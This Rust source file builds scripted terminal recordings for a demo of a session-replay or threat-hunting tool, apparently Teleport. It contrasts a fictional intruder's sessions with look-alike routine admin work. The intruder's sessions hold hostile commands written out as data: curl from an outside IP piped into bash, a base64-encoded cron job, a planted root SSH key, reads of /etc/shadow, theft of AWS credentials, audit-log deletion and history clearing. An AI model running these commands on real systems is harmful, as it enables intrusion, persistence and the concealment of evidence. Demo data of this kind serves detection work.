//! What the demo's sessions showed: the bytes `tsh play --format text` would print, written to
//! tell the story the demo's summaries tell (src/demo/README.md). Mallory escalates with sudo,
//! adds a root SSH key, types `rm -rf /var/log/audit` and erases it before clearing the
//! history, dave exports card tokens, and a secret is printed concealed.

/// The recording of a demo session, when it has one that is not the plain default.
pub fn recording(sid: &str) -> Vec<u8> {
    let text = match sid.get(..8).unwrap_or_default() {
        "5369f1d1" => mallory_privesc(),
        "78f94e40" => mallory_root_key(),
        "3abc00c0" => mallory_curl_bash(),
        "cb1990e0" => mallory_cron(),
        "e697e0e7" => mallory_secrets(),
        "f2734535" => mallory_recon(),
        "80f48f35" => dave_export(),
        "d8cb63c6" => dave_audit(),
        "8019206c" => carol_pod(),
        "e359af44" => dave_pg_hba(),
        // The look-alikes: ordinary work that a hunt's words also describe.
        "76a5b8a5" => alice_subnet_debug(),
        "f1dbfd66" => carol_new_login(),
        "e5d42593" => bob_sshd_change(),
        "c6aad790" => ci_deploy_unit(),
        "20b68153" => bob_zfs(),
        "92704622" => bob_orders_dump(),
        _ => routine(sid),
    };
    text.into_bytes()
}

/// A prompt as bash draws it, in colour (no title: most of the demo's hosts set none).
fn prompt(user: &str, host: &str) -> String {
    let sign = if user == "root" { '#' } else { '$' };
    format!("\x1b[01;32m{user}@{host}\x1b[00m:\x1b[01;34m~\x1b[00m{sign} ")
}

/// A command as the shell echoed it, and Enter.
fn run(prompt: &str, command: &str) -> String {
    format!("{prompt}{command}\r\n")
}

/// Typed, then erased with backspaces before Enter (the shell echoes BS SP BS).
fn erased(text: &str) -> String {
    format!("{text}{}", "\x08 \x08".repeat(text.chars().count()))
}

fn lines(lines: &[&str]) -> String {
    lines.iter().map(|l| format!("{l}\r\n")).collect()
}

fn mallory_privesc() -> String {
    let (p, r) = (prompt("mallory", "web-01"), prompt("root", "web-01"));
    [
        run(&p, "sudo -l"),
        lines(&[
            "User mallory may run the following commands on web-01:",
            "    (ALL : ALL) ALL",
        ]),
        run(&p, "sudo su -"),
        run(&r, "find / -perm -4000 -type f 2>/dev/null"),
        lines(&[
            "/usr/bin/passwd",
            "/usr/bin/sudo",
            "/usr/bin/pkexec",
            "/opt/tools/backup",
        ]),
        run(&r, "exit"),
        lines(&["logout"]),
    ]
    .concat()
}

fn mallory_root_key() -> String {
    let r = prompt("root", "web-01");
    [
        run(
            &r,
            "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIMalLoryKey mallory@laptop' >> /root/.ssh/authorized_keys",
        ),
        run(
            &r,
            "sed -i 's/^#PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config",
        ),
        run(&r, "systemctl reload sshd"),
        run(&r, "insmod /tmp/.x/nf_hook.ko"),
        run(&r, "lsmod | head -2"),
        lines(&["Module                  Size  Used by", "nf_hook                16384  0"]),
        // Typed, erased before Enter: the summary never saw it; the recording did.
        format!("{r}{}", erased("rm -rf /var/log/audit")),
        "history -c\r\n".to_owned(),
        run(&r, "exit"),
    ]
    .concat()
}

fn mallory_curl_bash() -> String {
    let p = prompt("ubuntu", "web-10");
    [
        // The title the session set, and what it put on the clipboard (OSC 52).
        "\x1b]2;routine maintenance\x07".to_owned(),
        // sudo's credentials cached first, so that the script can use them unasked.
        run(&p, "sudo -v"),
        lines(&["[sudo] password for ubuntu: "]),
        run(&p, "curl -fsSL http://203.0.113.50/i.sh | bash"),
        lines(&["[+] installing helper", "[+] done"]),
        "\x1b]52;c;Y3VybCAtZnNTTCBodHRwOi8vMjAzLjAuMTEzLjUwL2kuc2ggfCBiYXNo\x07".to_owned(),
        run(&p, "history -c"),
        run(&p, "exit"),
    ]
    .concat()
}

fn mallory_cron() -> String {
    let r = prompt("root", "web-01");
    [
        run(
            &r,
            "(crontab -l; echo '*/5 * * * * echo aWQgPiAvdG1wLy5x | base64 -d | bash') | crontab -",
        ),
        run(&r, "crontab -l"),
        lines(&["*/5 * * * * echo aWQgPiAvdG1wLy5x | base64 -d | bash"]),
        run(&r, "exit"),
    ]
    .concat()
}

fn mallory_secrets() -> String {
    let r = prompt("root", "web-01");
    [
        run(&r, "cat /etc/shadow"),
        lines(&[
            "root:$y$j9T$F5Jx0nEXAMPLEhash:19876:0:99999:7:::",
            "deploy:$y$j9T$Q2bvEXAMPLEhash:19876:0:99999:7:::",
        ]),
        run(&r, "env | grep AWS"),
        lines(&["AWS_REGION=eu-west-1"]),
        // The secret printed concealed (SGR 8): blank on the screen, there in the recording.
        run(
            &r,
            "printf '\\e[8m%s\\e[0m\\n' \"$(grep secret /home/deploy/.aws/credentials)\"",
        ),
        "\x1b[8maws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\x1b[0m\r\n"
            .to_owned(),
        run(&r, "cp /home/deploy/.aws/credentials /tmp/"),
        run(&r, "exit"),
    ]
    .concat()
}

fn mallory_recon() -> String {
    let p = prompt("mallory", "web-01");
    [
        run(&p, "whoami; id; uname -a"),
        lines(&[
            "mallory",
            "uid=1003(mallory) gid=1003(mallory) groups=1003(mallory),27(sudo)",
            "Linux web-01 6.8.0-45-generic #45-Ubuntu SMP x86_64 GNU/Linux",
        ]),
        run(&p, "cat /etc/os-release | head -2"),
        lines(&["PRETTY_NAME=\"Ubuntu 24.04.1 LTS\"", "NAME=\"Ubuntu\""]),
        run(&p, "nmap -sV 10.10.1.0/24"),
        lines(&[
            "Nmap scan report for db-01.prod (10.10.1.20)",
            "5432/tcp open  postgresql PostgreSQL DB 15",
        ]),
        run(&p, "exit"),
    ]
    .concat()
}

fn dave_export() -> String {
    let q = "payments=> ";
    [
        lines(&["psql (15.6)", "Type \"help\" for help.", ""]),
        run(
            q,
            "COPY (SELECT * FROM card_tokens) TO '/tmp/ct.csv' WITH CSV;",
        ),
        lines(&["COPY 120394"]),
        run(q, "\\! pg_dump -n payments -f /tmp/payments.sql"),
        run(q, "\\q"),
    ]
    .concat()
}

fn dave_audit() -> String {
    let p = prompt("ubuntu", "db-01");
    [
        // Typed, thought better of, erased before Enter: the summary never saw it.
        format!("{p}{}", erased("sudo rm -rf /var/log/audit")),
        "sudo systemctl stop auditd\r\n".to_owned(),
        run(&p, "sudo journalctl -u postgresql --since -1h | tail -3"),
        lines(&["Nov 28 10:02:11 db-01 postgres[812]: checkpoint complete"]),
        run(&p, "sudo systemctl start auditd"),
        run(&p, "exit"),
    ]
    .concat()
}

fn dave_pg_hba() -> String {
    let p = prompt("dave", "db-01");
    [
        run(&p, "sudo -l"),
        lines(&[
            "User dave may run the following commands on db-01:",
            "    (ALL) NOPASSWD: ALL",
        ]),
        run(
            &p,
            "echo 'host all all 10.0.0.0/8 trust' | sudo tee -a /etc/postgresql/15/main/pg_hba.conf",
        ),
        lines(&["host all all 10.0.0.0/8 trust"]),
        run(&p, "sudo systemctl reload postgresql"),
        run(&p, "sudo cat /root/.pgpass"),
        lines(&["db-01.prod:5432:*:postgres:EXAMPLE-not-a-real-password"]),
        run(&p, "exit"),
    ]
    .concat()
}

fn carol_pod() -> String {
    let p = "\x1b[1;34mroot@payments-api-6c9f8\x1b[0m:/app# ";
    [
        run(p, "env | grep AWS"),
        lines(&[
            "AWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE",
            "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
        ]),
        run(p, "exit"),
    ]
    .concat()
}

fn alice_subnet_debug() -> String {
    let p = prompt("alice", "bastion-eu");
    [
        run(&p, "nmap -sn 10.20.0.0/24"),
        lines(&[
            "Nmap scan report for 10.20.0.12",
            "Host is up (0.00041s latency).",
            "Nmap done: 256 IP addresses (3 hosts up) scanned in 2.61 seconds",
        ]),
        run(&p, "ss -tlnp | head -3"),
        lines(&["State  Recv-Q Send-Q Local Address:Port Peer Address:Port Process"]),
        run(&p, "exit"),
    ]
    .concat()
}

fn carol_new_login() -> String {
    let p = prompt("carol", "bastion-eu");
    [
        run(&p, "whoami; id; uname -a"),
        lines(&[
            "carol",
            "uid=1042(carol) gid=1042(carol) groups=1042(carol)",
            "Linux bastion-eu 6.8.0-45-generic #45-Ubuntu SMP x86_64 GNU/Linux",
        ]),
        run(&p, "exit"),
    ]
    .concat()
}

fn bob_sshd_change() -> String {
    let p = prompt("bob", "bastion-eu");
    [
        run(
            &p,
            "sudo sed -i 's/^#\\?PasswordAuthentication.*/PasswordAuthentication no/' /etc/ssh/sshd_config  # CHG-4312",
        ),
        run(&p, "sudo sshd -t && sudo systemctl restart ssh"),
        run(&p, "exit"),
    ]
    .concat()
}

fn ci_deploy_unit() -> String {
    let p = prompt("deploy", "web-02");
    [
        run(
            &p,
            "sudo install -m 644 deploy/orders-api.service /etc/systemd/system/orders-api.service",
        ),
        run(&p, "sudo systemctl daemon-reload"),
        run(&p, "sudo systemctl enable --now orders-api"),
        lines(&[
            "Created symlink /etc/systemd/system/multi-user.target.wants/orders-api.service \u{2192} /etc/systemd/system/orders-api.service.",
        ]),
        run(&p, "exit"),
    ]
    .concat()
}

fn bob_zfs() -> String {
    let p = prompt("bob", "db-01");
    [
        run(
            &p,
            "sudo apt-get install -y linux-headers-$(uname -r) zfs-dkms",
        ),
        lines(&["Setting up zfs-dkms (2.2.2-0ubuntu9) ..."]),
        run(&p, "sudo modprobe zfs"),
        run(&p, "sudo zpool create backup /dev/nvme1n1"),
        run(&p, "exit"),
    ]
    .concat()
}

fn bob_orders_dump() -> String {
    let q = "orders=> ";
    [
        lines(&["psql (15.6)", "Type \"help\" for help.", ""]),
        run(
            q,
            "\\! pg_dump -t orders_2026q2 -f /backup/orders_2026q2.sql orders",
        ),
        run(q, "\\q"),
    ]
    .concat()
}

/// Every other session: a short, plain one.
fn routine(sid: &str) -> String {
    let p = prompt("ubuntu", "host");
    [
        run(&p, "uptime"),
        lines(&[" 10:12:07 up 12 days,  3:04,  1 user,  load average: 0.08, 0.03, 0.01"]),
        run(&p, "df -h /"),
        lines(&["/dev/nvme0n1p1   97G   41G   56G  43% /"]),
        run(&p, &format!("echo session {}", sid.get(..8).unwrap_or(sid))),
        run(&p, "exit"),
    ]
    .concat()
}
